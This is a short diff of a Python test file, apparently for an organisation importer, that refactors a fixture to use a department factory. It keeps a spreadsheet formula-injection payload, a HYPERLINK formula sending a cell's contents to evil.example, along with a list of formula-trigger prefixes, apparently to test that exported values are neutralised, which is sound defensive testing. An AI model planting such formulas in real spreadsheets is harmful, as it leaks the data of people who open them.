@@ -12,8 +12,8 @@ from sqlmodel import Session
 
 from app.core.tenancy import TenantScope
 from app.org import importer
-from app.org.models import Department, User
-from tests.factories import make_tenant
+from app.org.models import User
+from tests.factories import make_department, make_tenant
 
 LINK = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -23,9 +23,7 @@ STARTS = ("=", "+", "-", "@", "\t", "\r")
 def people(session: Session) -> list[list[str]]:
     """A tenant whose people were saved with formula-like values (as older data may be)."""
     tenant = make_tenant(session)
-    department = Department(tenant_id=tenant.id, name="@部门")
-    session.add(department)
-    session.flush()
+    department = make_department(session, tenant, "@部门")
     department.path = f"/{department.id}/"
     session.add_all(
         [
